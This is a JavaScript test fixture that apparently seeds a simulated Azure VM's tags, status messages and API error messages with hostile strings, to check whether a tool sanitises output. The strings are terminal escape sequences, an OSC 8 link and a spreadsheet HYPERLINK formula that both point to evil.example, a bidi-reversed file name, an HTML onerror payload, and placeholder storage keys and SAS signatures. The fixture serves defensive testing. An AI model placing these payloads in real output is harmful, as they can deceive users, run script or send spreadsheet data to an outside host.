// Output safety, not a documented error: terminal escapes, OSC 8 links, bidi overrides, HTML, CSV formulas and secrets wherever Azure lets free text through.
import { powerStatus, provisioningStatus, setBootDiagnostics } from "../world/builders.mjs";

export const ANSI = "\u001b[31mRED ALERT\u001b[0m\u001b[2J";
export const OSC8 = "\u001b]8;;https://evil.example/steal\u0007click here\u001b]8;;\u0007";
export const BIDI = "\u202etxt.exe";
export const HTML = "<img src=x onerror=alert(1)>";
export const CSV = '=HYPERLINK("https://evil.example/?d="&A1,"Details")';
export const SECRETS = "sig=SECRETSIG123 AccountKey=SECRETKEY123==";

export default (w) => {
  // Tag values are free text (up to 256 chars); names are not, so the VM keeps a legal name.
  w.vm.model.tags = {
    owner: ANSI,
    docs: OSC8,
    file: BIDI,
    note: HTML,
    "cost-center": CSV,
    conn: `DefaultEndpointsProtocol=https;AccountName=scdiagstore;AccountKey=SECRETKEY123==`,
  };
  // A SAS token pasted into the boot diagnostics URI (users do this); the account name still derives from the host.
  setBootDiagnostics(w.vm, true, "https://scdiagstore.blob.core.windows.net/?sv=2022-11-02&ss=b&sp=rw&sig=SECRETSIG123");
  // Instance view statuses carry platform-written free text in displayStatus and message.
  w.vm.instanceView.statuses = [
    { ...provisioningStatus("Succeeded"), message: `${ANSI} ${HTML} ${SECRETS}` },
    { ...powerStatus("stopped"), displayStatus: `VM stopped ${ANSI}${OSC8}${BIDI}` },
  ];
  w.account.tags = { note: CSV, owner: ANSI };
  // Error messages from Azure are echoed by tools: make two reads fail with hostile messages.
  w.faults.push(
    {
      match: { path: "Microsoft.SerialConsole/consoleServices" },
      kind: "500",
      message: `Internal error ${ANSI} ${OSC8} ${HTML} ${CSV} ${SECRETS} ${BIDI}`,
    },
    {
      match: { path: "/providers/Microsoft.Authorization/permissions" },
      kind: "403",
      message: `The client ${HTML} does not have authorization ${ANSI} ${SECRETS}`,
    },
  );
};
